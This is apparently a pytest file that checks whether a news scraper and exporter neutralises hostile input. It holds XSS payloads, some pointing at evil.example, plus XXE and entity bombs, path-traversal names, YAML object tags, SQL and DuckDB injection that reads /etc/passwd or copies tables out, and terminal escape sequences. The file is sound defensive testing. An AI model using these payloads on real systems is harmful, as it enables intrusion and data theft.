"""What hostile pages, feeds and posts try after they were fetched, by category.

Attacks on fetching itself have their tests in ``tests/fetch``, those on the Prefect
server in ``tests/flows``. Payloads of our own stand here; where the shared corpus is
there, its payloads go through the same tests, and none of its cases may be forgotten.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from xml.sax.saxutils import escape

import click
import pytest
import yaml
from bs4 import BeautifulSoup

from flows import cli, settings
from flows.asking import Answer
from flows.cli.console import Console, dump, table
from flows.fetch import FetchPolicy
from flows.posts.writing import (
    ARTICLE_KEYS,
    JOURNAL,
    ExportRow,
    article_document,
    write_csv,
    write_jsonl,
    write_posts,
)
from parsers import registry
from parsers.article import Article, BadEntry, Entry, Found, Page
from parsers.clean import BOXES, HEADINGS, INLINE, clean_body
from parsers.compose import compose, one_line
from parsers.dates import read_time
from parsers.errors import BadFrontMatter, BadListing, ParseError
from parsers.harmless import harmless
from parsers.posts import Dialect, distinct_paths, post_path, read_post, write_post
from parsers.posts.names import MAX_NAME_BYTES, folded
from parsers.posts.scalars import writable
from parsers.text import plain_text
from tests.fetch.test_attacks import OURS as FETCHING
from tests.posts.conftest import make_article
from tests.warehouse.made import article as made_row
from tests.warehouse.made import rows_of, upsert
from warehouse import connect, connect_for_queries, current_snapshot, publish, run_query
from warehouse.errors import BadQuery
from warehouse.rows import Result, StoredPost

CORPUS = Path(__file__).parents[2] / "shared" / "corpus" / "attacks.json"
SHOWN = "https://gazette.example/2024/article.html"
NOW = datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)
DIALECTS: tuple[Dialect, ...] = ("jekyll", "hexo", "hugo")
SENTENCES = "".join(
    f"<p>这是第{number}段正文，它说了一些完整的话，读起来像一篇文章，有逗号，也有句号。</p>"
    for number in range(8)
)

# No text of an article holds one; tabs and line feeds are its layout.
CONTROLS = set(map(chr, [*range(9), *range(11, 32), *range(0x7F, 0xA0), *range(0xD800, 0xE000)]))
# What could steer a terminal or forge a line, besides.
STEERING = CONTROLS | set(
    "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2069"
)


def cases_of_the_corpus() -> list[dict[str, Any]]:
    if not CORPUS.is_file():
        return []
    cases: list[dict[str, Any]] = json.loads(CORPUS.read_text("utf-8"))["cases"]
    return cases


def payloads(category: str, *own: str) -> list[Any]:
    """Our payloads of a category, and those of the corpus when it is there."""
    foreign = [case for case in cases_of_the_corpus() if case["category"] == category]
    return [
        *(pytest.param(payload, id=f"own-{number}") for number, payload in enumerate(own)),
        *(pytest.param(case["payload"], id=case["id"]) for case in foreign),
    ]


def page_of(body: str, *, title: str = "一个标题在这里", url: str = SHOWN) -> Page:
    head = f"<head><title>{title}</title></head>"
    text = f"<html>{head}<body><h1>{title}</h1><article>{body}</article></body></html>"
    return Page(url=url, text=text, fetched_at=NOW)


def read(page: Page) -> Article:
    return registry.read(registry.source("any", "generic", {}), page)


def posts_of(article: Article) -> Iterator[tuple[Dialect, dict[str, Any], str]]:
    """The article in every dialect: its head as YAML reads it, and its body."""
    for dialect in DIALECTS:
        text = write_post(article, dialect).data.decode("utf-8")
        opening, head, body = re.split(r"^---$\n?", text, maxsplit=2, flags=re.MULTILINE)
        assert opening == ""
        yield dialect, yaml.safe_load(head), body


# --- xml: feeds ---------------------------------------------------------------------------


def feed_of(items: str, *, before: str = "") -> str:
    channel = f"<channel><title>T</title><link>https://gazette.example/</link>{items}</channel>"
    return f'<?xml version="1.0"?>{before}<rss version="2.0">{channel}</rss>'


def item_of(title: str = "t", link: str = "https://gazette.example/1", words: str = "words") -> str:
    return (
        f"<item><title>{title}</title><link>{link}</link><description>{words}</description></item>"
    )


@pytest.fixture(params=["feed", "rsshub"])
def entries(request: pytest.FixtureRequest) -> Any:
    """Reads a feed as a run does; its source takes no more than two seconds for it."""
    source = registry.source("any", request.param, {"url": "https://gazette.example/feed.xml"})
    listing = source.parser.listings(source)[0]

    def of(text: str) -> tuple[Entry | BadEntry, ...]:
        began = time.process_time()
        try:
            return registry.entries(
                source, listing, Page(url=listing.url, text=text, fetched_at=NOW)
            )
        finally:
            assert time.process_time() - began < 2

    return of


def laughs() -> str:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return feed_of(item_of("&l9;"), before=f'<!DOCTYPE rss [<!ENTITY l0 "ha">{steps}]>')


@pytest.mark.parametrize(
    "text",
    [
        laughs(),
        feed_of(item_of("&a;"), before=f'<!DOCTYPE rss [<!ENTITY a "{"x" * 100_000}">]>'),
        feed_of(item_of("&a;" * 1000), before="<!doctype rss [<!entity a 'x'>]>"),
    ],
    ids=["billion", "quadratic", "lower_case"],
)
def test_an_entity_bomb_is_refused_unread(entries, text) -> None:
    with pytest.raises(BadListing, match="declares entities of its own"):
        entries(text)


def test_no_feed_opens_a_file_or_a_connection(entries, tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:hunter2", encoding="utf-8")
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        here = f"http://127.0.0.1:{server.getsockname()[1]}/x"
        include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
        for before, words in (
            (f'<!DOCTYPE rss [<!ENTITY a SYSTEM "{here}">]>', "&a;"),
            (f'<!DOCTYPE rss [<!ENTITY a SYSTEM "{secret.as_uri()}">]>', "&a;"),
            (f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{here}"> %p;]>', "&a;"),
            (f'<!DOCTYPE rss SYSTEM "{here}">', "&a;"),
            (f'<?xml-stylesheet href="{here}"?>', include),
        ):
            try:
                found = repr(entries(feed_of(item_of(words=words), before=before)))
            except BadListing as error:
                found = str(error)
            assert "hunter2" not in found
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.parametrize(
    "text",
    [
        "<rss version='2.0'><channel>" + "<a>" * 50_000,
        feed_of("<item>" * 5_000 + "</item>" * 5_000),
        feed_of(f"<item>{'<a>' * 5_000}{'</a>' * 5_000}</item>{item_of()}"),
    ],
    ids=["open", "items", "in_an_item"],
)
def test_a_deep_feed_ends_in_words(entries, text) -> None:
    try:
        found = entries(text)
    except BadListing:
        return
    assert any(isinstance(one, BadEntry) for one in found)


def test_a_deep_item_does_not_hurt_the_next(entries) -> None:
    found = entries(feed_of(f"<item>{'<a>' * 5_000}{'</a>' * 5_000}</item>{item_of()}"))

    assert Counter(type(one) for one in found) == {Entry: 1, BadEntry: 1}


def test_items_of_a_broken_feed_are_still_read(entries) -> None:
    found = entries(feed_of(f"{item_of()}<item><b></item>{item_of(link='/2')}").replace("T</", "<"))

    assert [one.url for one in found if isinstance(one, Entry)] == [
        "https://gazette.example/1",
        "https://gazette.example/2",
    ]
    assert sum(isinstance(one, BadEntry) for one in found) == 1


def test_html_instead_of_a_feed_is_refused_by_name(entries) -> None:
    with pytest.raises(BadListing, match=r"found an HTML page titled 'Blocked'|error page"):
        entries("<!DOCTYPE html><html><head><title>Blocked</title></head><body>no</body></html>")


BAD_LINKS = (
    "javascript:alert(1)", "java\nscript:alert(1)", " vbscript:x", "data:text/html,<script>x</script>",
    "file:///etc/passwd", "ftp://gazette.example/x", "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stat", "blob:http://x/y", "duckdb:///x", "mailto:a@b.example",
    "http://", "http://[::1/", "http://gazette.example:99999/", "http://a b/",
)  # fmt: skip


def test_hostile_links_are_refused_one_by_one(entries) -> None:
    items = "".join(item_of(link=escape(link)) for link in BAD_LINKS)
    found = entries(feed_of(items + item_of(link="https://gazette.example/good")))

    *bad, good = found
    assert isinstance(good, Entry)
    assert good.url == "https://gazette.example/good"
    assert len(bad) == len(BAD_LINKS)
    assert all(isinstance(one, BadEntry) for one in bad)
    assert not set("".join(str(one.error) for one in bad)) & STEERING


# --- html: pages that cost --------------------------------------------------------------

COSTLY = {
    "deepfont": "<font>" * 50_000 + "end",
    "deepdiv": "<div>" * 50_000 + "end" + "</div>" * 50_000,
    "deeptable": "<table><tr><td>" * 10_000 + "end",
    "deeplist": "<ul><li>" * 10_000 + "end",
    "openlinks": "<a href=x>" * 20_000 + "end",
    "hugeattr": f'<p title="{"a" * 10_000_000}">end</p>',
    "manyattrs": f"<p {' '.join(f'a{number}=x' for number in range(100_000))}>end</p>",
    "entities": "<p>" + "&amp;&#0;&#27;&#155;&#xd800;&nbsp;" * 200_000 + "end</p>",
    "angles": "<" * 250_000,
    "comments": "<!--" * 100_000,
    "script": "<p>end</p><script>alert(1)</script><style>p{}</style>",
    "controls": "<pre>a&#0;b&#12;c\x85d\x1b[2J&#27;e\x9bf&#127;</pre><p title='\x1b'>end\x00</p>",
}


def in_time(work: Any, seconds: float = 10) -> Any:
    began = time.process_time()
    try:
        return work()
    finally:
        assert time.process_time() - began < seconds


@pytest.mark.parametrize("kind", COSTLY)
def test_no_page_costs_more_than_seconds_or_brings_a_control_in(kind) -> None:
    html = COSTLY[kind]
    cleaned = in_time(lambda: clean_body(html, SHOWN))
    words = in_time(lambda: plain_text(html))

    assert not (set(cleaned.text) | set(cleaned.html) | set(words)) & CONTROLS
    assert "alert" not in cleaned.html + cleaned.text + words
    if kind not in ("angles", "comments"):
        assert "end" in cleaned.text


@pytest.mark.parametrize("kind", COSTLY)
def test_the_generic_parser_reads_a_costly_page_or_says_why_not(kind) -> None:
    article = None
    try:
        article = in_time(lambda: read(page_of(SENTENCES + COSTLY[kind])))
    except ParseError as error:
        reason = error.reason
    else:
        reason = ""
    if article is None:
        assert reason in ("incomplete_article", "layout_changed")  # never broken_parser
        return
    assert not set(f"{article.title}{article.text}{article.body_html}") & CONTROLS
    assert "这是第3段正文" in article.text
    assert "alert" not in article.body_html + article.text


@pytest.mark.parametrize("kind", ["deepfont", "manyattrs", "controls"])
def test_compose_takes_any_body(kind) -> None:
    source = registry.source("any", "generic", {})
    article = in_time(
        lambda: compose(
            source,
            page_of(""),
            source_article_id="1",
            url=SHOWN,
            canonical_url=make_article().canonical_url,
            title=Found("标题", "test"),
            body=COSTLY[kind],
            published=read_time("", None, "test"),
        )
    )

    assert "end" in article.text
    assert not set(article.text + article.body_html) & CONTROLS


def test_costly_pages_fit_in_half_a_gigabyte() -> None:
    program = """
from pathlib import Path
from parsers.clean import clean_body
from tests.test_attacks import COSTLY, SENTENCES, page_of, read
for kind in ("deepfont", "hugeattr", "entities"):
    clean_body(COSTLY[kind], "https://gazette.example/")
    try:
        read(page_of(SENTENCES + COSTLY[kind]))
    except Exception as error:
        assert type(error).__name__ == "IncompleteArticle", error
# Not ru_maxrss: a child begins with its parent's.
print(next(line.split()[1] for line in Path('/proc/self/status').read_text().splitlines() if line.startswith('VmHWM')))
"""
    done = subprocess.run(
        [sys.executable, "-c", program],
        capture_output=True, text=True, cwd=Path(__file__).parents[1], timeout=60, check=True,
    )  # fmt: skip

    assert int(done.stdout) < 500 * 1024


REPEATED = (
    "a", "来源：", "（文章来源：", "责任编辑：", "原文链接：", "(", "\u3000 ", "\n", "2022-", "12:",
    "http://", "作者：", "&", "&#", ";width:1", "免责声明：", "{{", "/",
)  # fmt: skip


@pytest.mark.parametrize("unit", REPEATED)
def test_no_pattern_of_ours_backtracks(unit) -> None:
    words = unit * (50_000 // len(unit))

    def work() -> None:
        clean_body(f"<p>{words}!</p><p class=em_media>{words}!</p><p style='{words}'>x</p>", SHOWN)
        read_time(words, None, "test")
        one_line(words)
        for text in (f"<rss {words}>", feed_of(item_of(words, words, words)), f"<rss>{words}"):
            source = registry.source("any", "feed", {"url": SHOWN})
            page = Page(url=SHOWN, text=text, fetched_at=NOW)
            with suppress(BadListing):
                registry.entries(source, source.parser.listings(source)[0], page)

    in_time(work, 2)


# --- html-sanitize ------------------------------------------------------------------------

ALLOWED = INLINE | BOXES | HEADINGS | {"p", "pre", "br", "hr", "img", "div", "html", "body"}
ATTRIBUTES = {"href", "src", "alt", "title", "width", "height", "colspan", "rowspan", "start", "class"}  # fmt: skip


def is_inert(markup: str) -> bool:
    """Whether neither of two readers finds anything in the markup that could act."""
    for builder in ("html.parser", "lxml"):
        tree = BeautifulSoup(markup, builder)
        for tag in tree.find_all(True):
            links = {name: str(tag[name]) for name in ("href", "src") if tag.has_attr(name)}
            schemes = {urlsplit(link).scheme for link in links.values()}
            allowed = {"http", "https", "mailto"} if "href" in links else {"http", "https"}
            if tag.name not in ALLOWED or set(tag.attrs) - ATTRIBUTES or schemes - allowed:
                return False
    return "<!" not in markup and "<?" not in markup


@pytest.mark.parametrize(
    "payload",
    payloads(
        "html-sanitize",
        "<p onclick=alert(1)>t</p>",
        "<img src=x onerror=alert(1)><img/src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
        "<a href='java&#10;script:alert(1)'>x</a><a href=' &#1;javascript:alert(1)'>y</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href=vbscript:x>y</a>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<svg><style>&lt;/style>&lt;img src=x onerror=alert(1)></style></svg>",
        "<form action=//evil.example><input name=p><button formaction=javascript:x>b</button></form>",
        "<style>*{background:url(//evil.example/)}</style><link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<pre><code class='language-x\" onclick=\"alert(1)'>&lt;script>alert(1)&lt;/script></code></pre>",
        "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
        "<p>&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;</p>",
        "<img src='http://h.example/\"onerror=alert(1) x=\"' alt='\"><script>alert(1)</script>'>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<td style='x:expression(alert(1))'><x-y onfocus=alert(1) autofocus tabindex=0>z</x-y>",
        "<p markdown=1>[x](javascript:alert(1)) {% raw %}{{ site }}{% endraw %} {{< shortcode >}}</p>",
    ),
)  # fmt: skip
def test_nothing_executable_survives_cleaning_or_any_export(payload) -> None:
    cleaned = clean_body(f"<p>before</p>{payload}<p>after</p>", SHOWN)
    assert is_inert(cleaned.html)
    assert clean_body(cleaned.html, SHOWN).html == cleaned.html
    assert "before" in cleaned.text

    for source in ("finews", "gazette"):
        article = make_article(source=source, body_html=cleaned.html, text=cleaned.text)
        for _, _, body in posts_of(article):
            # A line <https://...> is Markdown's way to write a link.
            assert is_inert(re.sub(r"^<https?://[^\s<>]+>$", "", body, flags=re.MULTILINE))
            assert not re.search(r"[{}]", body)
        document = article_document(article)
        assert is_inert(str(document["body_html"]))


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "svg/onload=alert`1`", "data:text/html,x", "img/src=x"]
)
def test_no_address_becomes_a_tag_or_a_script(address) -> None:
    article = make_article(source="gazette", url=address, canonical_url=address)

    for _, head, body in posts_of(article):
        assert is_inert(body)
        assert address not in body
        assert head.get("source_url", address) == address  # data, in quotes


def test_what_a_page_declares_about_itself_is_no_script() -> None:
    page = page_of(f"{SENTENCES}<p>原文链接：<a href='javascript:alert(4)'>x</a></p>")
    declared = (
        "<link rel=canonical href='javascript:alert(1)'>"
        "<meta property='og:url' content='javascript:alert(2)'>"
        "<meta property='og:image' content='javascript:alert(3)'>"
    )
    article = read(replace(page, text=page.text.replace("</head>", f"{declared}</head>")))

    assert "javascript" not in repr(article_document(article) | {"provenance": ""})


def test_words_that_look_like_tags_stay_words_in_every_title() -> None:
    title = "<script>alert(1)</script>"
    for _, head, body in posts_of(
        make_article(title=title, publisher=title, tags=(f"{title}新闻",))
    ):
        assert head["title"] == title
        assert "<script" not in body


# --- yaml ---------------------------------------------------------------------------------

HOSTILE_WORDS = payloads(
    "yaml",
    "a: b", "\"quoted\" and 'single'", "line\nbreak", "x\n---\n# body", "x\n...\nlayout: evil",
    "- list", '!!python/object/apply:os.system ["id"]', "&a *a", "*a", "#comment", " #c", "@at",
    "`x`", "%TAG", "{a: b}", "[a, b]", "key: |\n  x", "> folded", " lead", "trail ", "\ufeffbom",
    "null", "~", "yes", "no", "on", "1", "0x1f", "1e3", "12:30:45", "2022-03-14", "=", "<<", "? q",
    "\\", "\\n", '\\"', "'", '"', "''", "tab\tx", "\x85nel", "ls\u2028ps\u2029", "a\x00b", "a\x1b[2Jb",
    "\ud800half", "---", "...", "!", "|", "a\r\nb", "{{ x }}", "{% x %}", "😀", ": ", "a #b", ",",
)  # fmt: skip


@pytest.mark.parametrize("words", HOSTILE_WORDS)
def test_any_title_goes_through_front_matter_as_it_is(words) -> None:
    for (dialect, head, _), (_, plain, _) in zip(
        posts_of(make_article(source="gazette", title=words)),
        posts_of(make_article(source="gazette", title="plain")),
        strict=True,
    ):
        assert head == plain | {"title": writable(words)}, dialect


@pytest.mark.parametrize("words", HOSTILE_WORDS)
def test_any_name_goes_through_front_matter_as_it_is(words) -> None:
    fields = {"source": "gazette", "categories": ("x", "y"), "tags": ("x", "y")}
    hostile = make_article(
        **fields | {"publisher": words, "authors": (words, "plain"), "tags": (words, "plain")}
    )
    plain = make_article(**fields | {"publisher": "plain", "authors": ("plain",)})
    for (dialect, head, _), (_, usual, _) in zip(posts_of(hostile), posts_of(plain), strict=True):
        assert set(head) == set(usual)
        assert head["author" if dialect == "hexo" else "publisher"] == writable(words)
        assert head["authors"] == head["tags"] == [writable(words), "plain"]


@pytest.mark.parametrize("words", HOSTILE_WORDS)
def test_any_single_category_goes_through_front_matter_as_it_is(words) -> None:
    for _, head, _ in posts_of(make_article(source="gazette", categories=(words,))):
        assert head["categories"] in (writable(words), [writable(words)])


# --- path-traversal -----------------------------------------------------------------------

HOSTILE_NAMES = payloads(
    "path-traversal",
    "", ".", "..", "../../etc/passwd", "/etc/passwd", "a/b/c", "..\\..\\x", "C:\\x", "con", "NUL.txt",
    "a\nb", "a\x00b", ".htaccess", "-rf", "\u202egpj.exe", "e\u0301", "~root", "x" * 5000, "字" * 300,
    "a.", "a ", "$(id)", "`id`", "%2e%2e%2f", "\ud800", "a\u2028b", "....//", "．．／x",
)  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_no_id_leads_out_of_the_folder(name, tmp_path) -> None:
    site, outside = tmp_path / "site", set(tmp_path.rglob("*"))
    articles = [
        make_article(source="gazette", source_article_id=name, title=name),
        make_article(source=name, source_article_id="1", title=name),
        make_article(source="gazette", source_article_id="1", title=name),
    ]
    for dialect in DIALECTS:
        paths = [post_path(article, dialect) for article in articles]
        assert len({folded(path) for path in paths}) == 3
        for path in paths:
            assert len(path.rpartition("/")[2].encode("utf-8")) <= MAX_NAME_BYTES
            assert not set(path) & (STEERING | {"\\", "\n"})
            assert ".." not in path
    exported = write_posts([ExportRow(article=one) for one in articles], site, "jekyll")

    assert len(exported.written) == 3
    made = set(tmp_path.rglob("*")) - outside
    assert all(path.resolve().is_relative_to(site.resolve()) for path in made)


@pytest.mark.parametrize(
    "name", ["../x.md", "/x.md", "a/../../x.md", ".git/hooks/x", "a\0b.md", ""]
)
def test_no_imported_path_leads_out_of_the_folder(name, tmp_path) -> None:
    article = make_article()
    post = StoredPost(data=b"x", dialect="jekyll", path=name)

    exported = write_posts([ExportRow(article=article, post=post)], tmp_path / "site", "jekyll")

    assert len(exported.written) == 1
    assert [path.name for path in tmp_path.iterdir()] == ["site"]
    assert not (tmp_path / "site" / ".git").exists()
    assert list(distinct_paths([("a", name)]).values()) == exported_names(name)


def exported_names(name: str) -> list[str]:
    (path,) = distinct_paths([("a", name)]).values()
    assert not path.startswith(("/", "."))
    assert "/" not in path
    return [path]


def test_ids_that_a_disk_could_confuse_get_files_of_their_own(tmp_path) -> None:
    ids = ["e\u0301", "\u00e9", "E\u0301", "A", "a", "ａ", "ﬁ", "fi", "x/y", "x-y", "x\\y"]
    rows = [ExportRow(article=make_article(source="g", source_article_id=one)) for one in ids]

    exported = write_posts(rows, tmp_path, "hexo")

    assert len({folded(path) for path in exported.written}) == len(ids)


@pytest.mark.parametrize("link", ["_posts", "file", JOURNAL])
def test_no_export_writes_through_a_link(link, tmp_path) -> None:
    site, elsewhere, article = tmp_path / "site", tmp_path / "elsewhere", make_article()
    site.mkdir()
    elsewhere.mkdir()
    target = elsewhere / "target.md"
    target.write_bytes(b"")
    path = site / (post_path(article, "jekyll") if link == "file" else link)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(elsewhere if link == "_posts" else target)

    for _ in range(2):
        if link == JOURNAL:
            with pytest.raises(OSError, match="not written through"):
                write_posts([ExportRow(article=article)], site, "jekyll", overwrite=True)
        else:
            exported = write_posts([ExportRow(article=article)], site, "jekyll", overwrite=True)
            assert "not written through" in next(iter(exported.failed.values()))

    assert list(elsewhere.iterdir()) == [target]
    assert target.read_bytes() == b""
    assert path.is_symlink()


def test_an_export_to_one_file_replaces_a_link_and_not_its_target(tmp_path) -> None:
    target, file = tmp_path / "target", tmp_path / "out.jsonl"
    target.write_bytes(b"mine")
    file.symlink_to(target)

    write_jsonl([make_article()], file)

    assert target.read_bytes() == b"mine"
    assert json.loads(file.read_bytes())["title"] == "标题"


# --- sql, data ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "words",
    payloads(
        "sql",
        "x'); DROP TABLE records; --", "'; ATTACH 'http://127.0.0.1/x' AS y; --", "\\'; --", "%", "_",
        "1; COPY articles TO 'leak.csv'", "$1", "?", "${x}", "{x}", "/* ", "'' OR 1=1", '"; --',
    ),
)  # fmt: skip
def test_no_value_is_read_as_sql(words, elsewhere) -> None:
    with connect(":memory:") as db:
        upsert(db, made_row(1, "other"))
        before = rows_of(db, "SELECT table_name FROM information_schema.tables ORDER BY ALL")
        row = made_row(
            words, words, source=words, publisher=words, authors=(words,), tags=(words,),
            url=words, canonical_url=words, channel=words,
        )  # fmt: skip
        upsert(db, row)

        assert (
            rows_of(db, "SELECT table_name FROM information_schema.tables ORDER BY ALL") == before
        )
        assert rows_of(
            db, "SELECT title, publisher, url, authors FROM articles WHERE title = ?", words
        ) == [(words, words, words, [words])]
        assert rows_of(db, "SELECT count(*) FROM articles") == [(2,)]
    assert list(elsewhere.iterdir()) == []


REFUSED = (
    "ATTACH 'other.duckdb' AS y", "COPY articles TO 'leak.csv'", "COPY (SELECT 1) TO 'leak.parquet'",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO 'leak.csv'", "EXPORT DATABASE 'leak'", "IMPORT DATABASE 'x'",
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/passwd')", "FROM '/etc/passwd'", "FROM 'rows.parquet'",
    "SELECT * FROM glob('/etc/*')", "FROM sniff_csv('/etc/passwd')", "FROM read_json('/etc/passwd')",
    "FROM 'http://127.0.0.1:1/x.csv'", "FROM query('ATTACH ''x'' AS y')", "INSTALL httpfs", "LOAD httpfs",
    "SET enable_external_access = true", "RESET enable_external_access", "SET lock_configuration = false",
    "PRAGMA enable_profiling", "DROP VIEW articles", "DELETE FROM records", "CREATE TABLE t (a INT)",
    "CREATE TEMP TABLE t AS SELECT 1", "INSERT INTO records SELECT * FROM records",
    "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1", "UPDATE records SET seq = 1", "CHECKPOINT",
    "SELECT 1; COPY articles TO 'leak.csv'", "SELECT 1; SELECT 2", "CALL force_checkpoint()", "",
    "SELECT * FROM hostile_frame", "BEGIN", "VACUUM", "PREPARE p AS SELECT 1", "USE memory",
    "DETACH copydesk", "CREATE SECRET s (TYPE s3)", "-- nothing", "WITH x AS (DELETE FROM records) FROM x",
)  # fmt: skip


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("stored") / "warehouse.duckdb"
    with connect(path) as db:
        upsert(db, made_row(1, "\x1b]0;pwned\x07 \u202eevil =1+1", text="words"))
    return path


@pytest.mark.parametrize("sql", REFUSED)
def test_a_question_reaches_nothing_but_the_warehouse(sql, stored, elsewhere) -> None:
    hostile_frame = [{"secret": "hunter2"}]
    before = stored.read_bytes()

    with connect_for_queries(stored) as db, pytest.raises(BadQuery) as caught:
        run_query(db, sql)

    assert hostile_frame[0]["secret"] not in str(caught.value)
    assert "root:" not in str(caught.value)
    assert stored.read_bytes() == before
    assert list(elsewhere.iterdir()) == []
    assert [path.name for path in stored.parent.iterdir() if path.suffix == ".duckdb"] == [
        stored.name
    ]


def test_a_file_name_is_no_sql(tmp_path) -> None:
    hostile = "x'; ATTACH 'leak.duckdb' AS y; --\"; DROP.duckdb"
    folder = tmp_path / "it's"
    folder.mkdir()
    with connect(folder / hostile) as db:
        upsert(db, made_row(1))
        publish(db, folder / f"read {hostile}")

    snapshot = current_snapshot(folder / f"read {hostile}")
    with connect_for_queries(snapshot.path) as db:
        assert run_query(db, "SELECT count(*) FROM articles").rows == [(1,)]
    assert not list(tmp_path.rglob("leak*"))
    assert [path.name for path in tmp_path.iterdir()] == ["it's"]


def test_a_limit_is_a_number_before_anything_happens(capfd, elsewhere) -> None:
    assert cli.run(["sync", "--limit", "1; COPY posts TO 'leak.csv'"]) == 2

    assert "'--limit'" in capfd.readouterr().err
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize(
    "title", ["标题\x00在这里的文章", "标题&#0;在这里的文章", "标题&#x00;在这里的文章"]
)
def test_nul_never_reaches_the_warehouse(title) -> None:
    article = read(page_of(SENTENCES + "<p>a\x00b&#0;c</p>", title=title))
    listing = "<item><guid isPermaLink='false'>a&#0;b</guid><title>a&#0;b\x00</title></item>"
    source = registry.source("any", "feed", {"url": SHOWN})
    found = registry.entries(
        source,
        source.parser.listings(source)[0],
        Page(url=SHOWN, text=feed_of(listing), fetched_at=NOW),
    )

    assert "在这里" in article.title
    assert "\0" not in json.dumps(article_document(article), ensure_ascii=False)
    assert "\\u0000" not in json.dumps(article_document(article))
    assert "\0" not in "".join(
        str(one.source_article_id) for one in found if isinstance(one, Entry)
    )


# --- log-injection ------------------------------------------------------------------------

HOSTILE_LINES = payloads(
    "log-injection",
    "\x1b]0;pwned\x07\x1b[2J", "\x9b2J\x9d0;x\x9c", "\u202eevil\u202c", "\u2066x\u2069\u200f", "a\rb\b\b",
    "\u2028x\u2029y\x85z", "%s%s%n {0} {self} %(name)s", "\x7f\x00", "[bold red]x[/bold red]", "\ud800",
)  # fmt: skip


def test_what_is_harmless_stays_and_nothing_else() -> None:
    usual = "标题 — “引号” 👩\u200d💻 %s {0}\tcell\nline <b> [x] \\u001b"

    assert harmless(usual) == usual
    assert harmless("a\x1b[2Jb\u202e") == "a\\u001b[2Jb\\u202e"
    assert not set(harmless("".join(map(chr, range(0x3000))))) & STEERING


@pytest.mark.parametrize("words", HOSTILE_LINES)
def test_nothing_that_is_said_steers_the_terminal(words, capfd) -> None:
    console = Console(verbosity=1)
    console.document({}, words)
    console.say(words)
    console.note(words)
    console.detail(words)
    console.fail(words, 1)
    console.fail_with(ParseError(words))
    console.fail_with(settings.ConfigurationError(words))
    console.fail_with(RuntimeError(words))
    click.echo(table([{words: words, "n": 1}], (words, "n")))
    out, err = capfd.readouterr()

    assert not set(out + err) & STEERING
    assert out.splitlines()[:2] == [harmless(words)] * 2
    assert "this is a bug in copydesk: RuntimeError" in err
    if "%s" in words:
        assert err.count(words) >= 5  # no format was filled in


@pytest.mark.parametrize("words", HOSTILE_LINES)
def test_json_shows_the_same_value_in_characters_that_do_nothing(words, capfd) -> None:
    console = Console(json=True)
    console.document({"title": words, words: [words]}, "")
    console.fail(words, 1)
    out, err = capfd.readouterr()
    reader, at = json.JSONDecoder(), out.index("\n}\n") + 3

    assert not set(out + err) & STEERING
    assert reader.decode(out[:at]) == {"title": words, words: [words]}
    assert reader.decode(out[at:])["error"] == words
    assert json.loads(dump([words])) == [words]


def test_a_query_shows_hostile_values_harmlessly(stored, capfd, elsewhere) -> None:
    config = elsewhere / "copydesk.toml"
    config.write_text(f"[warehouse]\npath = {json.dumps(str(stored))}\n", encoding="utf-8")
    ask = ["--config", str(config), "query", "--live", "select title, url from articles"]

    assert cli.run(ask) == 0
    shown = capfd.readouterr()
    assert cli.run([*ask, "--json"]) == 0
    document = capfd.readouterr().out

    assert "\\u001b]0;pwned\\u0007 \\u202eevil" in shown.out
    assert not set(shown.out + shown.err + document) & STEERING
    assert json.loads(document)[0]["title"] == "\x1b]0;pwned\x07 \u202eevil =1+1"


@pytest.mark.parametrize("words", HOSTILE_LINES)
def test_what_is_typed_wrongly_is_said_harmlessly(words, capfd, elsewhere) -> None:
    for typed in ([words], ["sync", words], ["query", f"select '{words}"], ["parse", words]):
        assert cli.run(typed) != 0
    out, err = capfd.readouterr()

    assert not set(out + err) & STEERING


@pytest.mark.parametrize("words", HOSTILE_LINES)
def test_errors_about_pages_quote_them_harmlessly(words) -> None:
    url = f"https://gazette.example/{words}"
    pages = [page_of("", url=url), page_of("", title=words), replace(page_of(""), text=words)]
    errors = []
    for page in pages:
        with pytest.raises(ParseError) as caught:
            read(page)
        errors.append(str(caught.value))
    for dialect_text in (f"---\n{words}: [\n---\nx", f"---\ntitle: !{words} x\n---\nx", words):
        with pytest.raises(BadFrontMatter) as bad:
            read_post(dialect_text.encode("utf-8", "replace"), f"_posts/{words}.md")
        errors.append(str(bad.value))

    assert not set("".join(errors)) & STEERING


@pytest.mark.parametrize("words", HOSTILE_LINES)
